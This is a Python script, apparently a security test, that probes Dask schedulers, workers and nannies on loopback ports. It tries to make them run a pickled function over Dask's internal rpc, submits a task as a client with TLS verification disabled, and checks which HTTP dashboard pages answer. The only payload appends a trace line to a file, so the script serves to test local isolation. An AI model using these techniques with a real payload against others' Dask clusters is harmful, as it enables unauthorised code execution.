"""Try to run code in whatever listens on ports of loopback: `python attack.py FILE PORT ...`.

Every way in leaves a line in FILE that names it. What somebody else on the machine has: the ports, Dask, and
certificates of their own making.
"""

import asyncio
import http.client
import logging
import os
import ssl
import sys

from distributed import Client
from distributed.core import rpc
from distributed.protocol.pickle import dumps
from distributed.security import Security

PATIENCE_S = 2.0


def leave_trace(file, words):
    with open(file, "a", encoding="utf-8") as trace:
        trace.write(f"{words} in process {os.getpid()}\n")


class Stranger(Security):
    """Encrypts, and trusts everybody: attackers need not know whom they attack."""

    def get_connection_args(self, role):
        context = ssl._create_unverified_context()
        if self.tls_client_cert:  # to show, of their own making
            context = super().get_connection_args(role)["ssl_context"]
            context.verify_mode = ssl.CERT_NONE
        return {"ssl_context": context, "require_encryption": True, "extra_conn_args": {}}


def securities():
    return (
        ("tcp", "without encryption", Security()),
        ("tls", "without certificate", Stranger()),
        ("tls", "with a certificate of its own", Stranger.temporary()),
    )


async def command_server(file, address, how, security):
    """Have a worker, or nanny, or scheduler run a function as Dask's parts ask each other to."""
    arguments = security.get_connection_args("client")
    async with rpc(address, connection_args=arguments, timeout=PATIENCE_S) as server:
        call = dumps(leave_trace), dumps((file, f"command to {address}, {how},"))
        run = server.run if await is_worker(server) else server.run_function
        await asyncio.wait_for(run(function=call[0], args=call[1], kwargs=dumps({})), PATIENCE_S)


async def is_worker(server):
    return (await asyncio.wait_for(server.identity(), PATIENCE_S))["type"] != "Scheduler"


async def be_client(file, address, how, security):
    """Submit a task, as the owner of the campaign does."""
    async with Client(address, security=security, timeout=PATIENCE_S, asynchronous=True) as client:
        task = client.submit(leave_trace, file, f"task of a client of {address}, {how},")
        await asyncio.wait_for(task, PATIENCE_S)


def read_page(file, port):
    for page in ("/", "/health", "/metrics", "/info/main/workers.html", "/json/identity.json"):
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=PATIENCE_S)
        connection.request("GET", page)
        if connection.getresponse().status < 500:
            leave_trace(file, f"HTTP of 127.0.0.1:{port}{page}")


async def attack(file, ports):
    attempts = [
        way(file, f"{scheme}://127.0.0.1:{port}", how, security)
        for port in ports
        for scheme, how, security in securities()
        for way in (command_server, be_client)
    ]
    pages = [asyncio.to_thread(read_page, file, port) for port in ports]
    await asyncio.wait([asyncio.ensure_future(one) for one in (*attempts, *pages)], timeout=2.5 * PATIENCE_S)
    os._exit(0)  # connections that nobody answers would wait for longer


if __name__ == "__main__":
    logging.disable()
    asyncio.run(attack(sys.argv[1], [int(port) for port in sys.argv[2:]]))
